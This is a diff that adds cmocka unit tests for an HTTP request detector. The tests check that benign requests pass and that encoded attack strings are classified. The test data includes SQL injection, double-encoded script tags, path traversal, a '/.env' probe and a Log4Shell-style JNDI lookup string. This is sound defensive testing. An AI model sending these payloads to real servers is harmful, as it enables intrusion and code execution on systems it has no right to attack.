@@ -1,0 +1,67 @@
+/* Tests of http.h. */
+#include "tests/unit/check.h"
+
+#include "detector/http.h"
+
+#include <string.h>
+
+static const char *pattern(const char *text)
+{
+    return http_pattern((const uint8_t *)text, strlen(text));
+}
+
+static void honest_requests_hold_nothing(void **state)
+{
+    static const char *const honest[] = {
+        "GET / HTTP/1.1\r\nHost: a\r\n\r\n",
+        "GET /search?q=order+by+phone&select=all HTTP/1.1\r\n",
+        "GET /union/select.html?page=1 HTTP/1.1\r\n",
+        "POST /login HTTP/1.1\r\nContent-Length: 40\r\n\r\nuser=x' or 1=1",
+        "GET /a%20b%2Fc?script=1&id=o%27neill HTTP/1.1\r\n",
+        "GET /css/../img/logo.png HTTP/1.1\r\n",
+        "\x16\x03\x01\x02",
+        "GET",
+        "",
+        "GET ",
+    };
+
+    (void)state;
+    for (size_t i = 0; i < sizeof honest / sizeof honest[0]; i++)
+        assert_null(pattern(honest[i]));
+}
+
+static void attacks_are_named_also_when_encoded_twice(void **state)
+{
+    (void)state;
+    assert_string_equal(pattern("GET /p.php?id=-1+UNION/**/SELECT+1,2 HTTP/1.1\r\n"), "sql");
+    assert_string_equal(pattern("GET /p?id=1%27%20or%20%271%27=%271 HTTP/1.1\r\n"), "sql");
+    assert_string_equal(pattern("GET /p?q=%253Cscript%253E HTTP/1.1\r\n"), "script");
+    assert_string_equal(pattern("GET /%2e%2e/%2e%2e/%2e%2e/x HTTP/1.1\r\n"), "traversal");
+    assert_string_equal(pattern("GET /.env HTTP/1.1\r\n"), "probe");
+    assert_string_equal(pattern("GET /?x=${jndi:ldap://h/a} HTTP/1.1\r\n"), "command");
+}
+
+static void every_cut_of_a_request_is_safe(void **state)
+{
+    const char *text = "GET /p?q=%3cscript%3e%2 HTTP/1.1\r\n";
+    uint8_t *copy;
+
+    (void)state;
+    for (size_t cut = 0; cut <= strlen(text); cut++) {
+        copy = test_malloc(cut + 1);
+        memcpy(copy, text, cut);
+        (void)http_pattern(copy, cut);
+        test_free(copy);
+    }
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(honest_requests_hold_nothing),
+        cmocka_unit_test(attacks_are_named_also_when_encoded_twice),
+        cmocka_unit_test(every_cut_of_a_request_is_safe),
+    };
+
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
